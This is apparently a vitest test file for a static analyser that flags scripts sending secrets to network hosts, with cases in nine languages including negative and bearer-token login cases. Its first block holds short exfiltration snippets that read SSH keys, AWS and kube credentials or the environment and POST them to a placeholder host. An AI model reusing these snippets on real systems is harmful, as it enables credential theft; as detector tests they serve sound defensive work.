import { describe, expect, test } from 'vitest';
import { scriptAnalyser } from '../../src/scripts/script-analyser.js';
import type { SCRIPT_LANGUAGES } from '../../src/scripts/syntax.js';
import { factsOf } from '../manifests/support.js';
import { makeUnit, NO_HURRY } from '../support/make-unit.js';

const read = (language: (typeof SCRIPT_LANGUAGES)[number], text: string) =>
  scriptAnalyser.analyse([makeUnit(language, text)], NO_HURRY);
const flows = (language: (typeof SCRIPT_LANGUAGES)[number], text: string) =>
  factsOf(read(language, text), 'flow').map(
    ({ secret, sink, asLogin }) => `${secret.secret} ${sink.host ?? '?'}${asLogin ? ' login' : ''}`,
  );

describe('a secret reaches a sink', () => {
  test.each<[(typeof SCRIPT_LANGUAGES)[number], string, string]>([
    [
      'powershell',
      '$k = Get-Content "$env:USERPROFILE\\.ssh\\id_rsa" -Raw\n$b = @{ d = $k }\nInvoke-RestMethod -Uri "https://c.example.invalid/x" -Method Post -Body $b',
      'credential-file c.example.invalid',
    ],
    [
      'powershell',
      '(New-Object Net.WebClient).UploadString("https://c.example.invalid", (gci env: | Out-String))',
      'environment c.example.invalid',
    ],
    [
      'batch',
      'curl -s -d @%USERPROFILE%\\.aws\\credentials https://c.example.invalid/',
      'credential-file c.example.invalid',
    ],
    [
      'ruby',
      'key = File.read(File.expand_path("~/.aws/credentials"))\nNet::HTTP.post(URI("https://c.example.invalid/r"), key)',
      'credential-file c.example.invalid',
    ],
    ['ruby', 'Net::HTTP.post(URI("https://c.example.invalid/r"), ENV.to_h.to_json)', 'environment c.example.invalid'],
    [
      'perl',
      'open(F,"$ENV{HOME}/.ssh/id_rsa"); my $k = join("",<F>);\n$ua->post("https://c.example.invalid/", Content => $k);',
      'credential-file c.example.invalid',
    ],
    [
      'php',
      '<?php\n$d = json_encode($_SERVER);\n$ch = curl_init("https://c.example.invalid/");\ncurl_setopt($ch, CURLOPT_POSTFIELDS, $d);',
      'environment c.example.invalid',
    ],
    [
      'lua',
      'local k = io.open(os.getenv("HOME").."/.ssh/id_rsa"):read("*a")\nhttp.request("https://c.example.invalid", k)',
      'credential-file c.example.invalid',
    ],
    [
      'go',
      'func main() {\n\tdata, _ := os.ReadFile(filepath.Join(home, ".aws/credentials"))\n\thttp.Post("https://c.example.invalid/x", "text/plain", bytes.NewReader(data))\n}',
      'credential-file c.example.invalid',
    ],
    [
      'go',
      'func main(){ b,_:=os.ReadFile(os.Getenv("HOME")+"/.kube/config"); http.Post("https://c.example.invalid","t",strings.NewReader(string(b))) }',
      'credential-file c.example.invalid',
    ],
    [
      'rust',
      'let k = std::fs::read_to_string("/home/a/.ssh/id_ed25519").unwrap();\nclient.post("https://c.example.invalid").body(k).send();',
      'credential-file c.example.invalid',
    ],
    [
      'java',
      'String k = Files.readString(Path.of(".ssh/id_rsa"));\nHttpRequest r = HttpRequest.newBuilder(URI.create("https://c.example.invalid")).POST(BodyPublishers.ofString(k)).build();',
      'credential-file c.example.invalid',
    ],
  ])('%s', (language, text, expected) => {
    expect(flows(language, text)).toContain(expected);
  });

  test.each<[(typeof SCRIPT_LANGUAGES)[number], string]>([
    [
      'powershell',
      '$h = @{ Authorization = "Bearer $env:ACME_API_KEY" }\nInvoke-RestMethod https://api.acme.example/v1 -Headers $h',
    ],
    [
      'ruby',
      'req = Net::HTTP::Get.new(URI("https://api.acme.example/v1"))\nreq["Authorization"] = "Bearer #{ENV[\'ACME_API_KEY\']}"\nhttp.request(req)',
    ],
    [
      'go',
      'key := os.Getenv("ACME_API_KEY")\nreq, _ := http.NewRequest("GET", "https://api.acme.example/v1", nil)\nreq.Header.Set("Authorization", "Bearer "+key)\nclient.Do(req)',
    ],
    [
      'php',
      '<?php $ch = curl_init("https://api.acme.example/v1"); curl_setopt($ch, CURLOPT_HTTPHEADER, ["Authorization: Bearer " . getenv("ACME_API_KEY")]); curl_exec($ch);',
    ],
  ])('%s: a key that logs in is told from data', (language, text) => {
    expect(flows(language, text)).toContain('secret-variable api.acme.example login');
    expect(flows(language, text).every((flow) => flow.endsWith('login'))).toBe(true);
  });

  test.each<[(typeof SCRIPT_LANGUAGES)[number], string]>([
    ['go', '// data := os.ReadFile(".aws/credentials")\nhttp.Post("https://c.example.invalid", "text/plain", body)'],
    [
      'go',
      'data, _ := os.ReadFile(".aws/credentials")\nfmt.Println(len(data))\nhttp.Post("https://c.example.invalid", "text/plain", other)',
    ],
    ['ruby', 'puts "Put your key into ~/.aws/credentials"\nNet::HTTP.post(URI("https://c.example.invalid/r"), report)'],
    [
      'powershell',
      '<# $k = Get-Content ~/.ssh/id_rsa #>\nInvoke-RestMethod -Uri https://c.example.invalid -Method Post -Body $report',
    ],
  ])('%s: what does not reach it makes no flow', (language, text) => {
    expect(flows(language, text)).toEqual([]);
  });
});
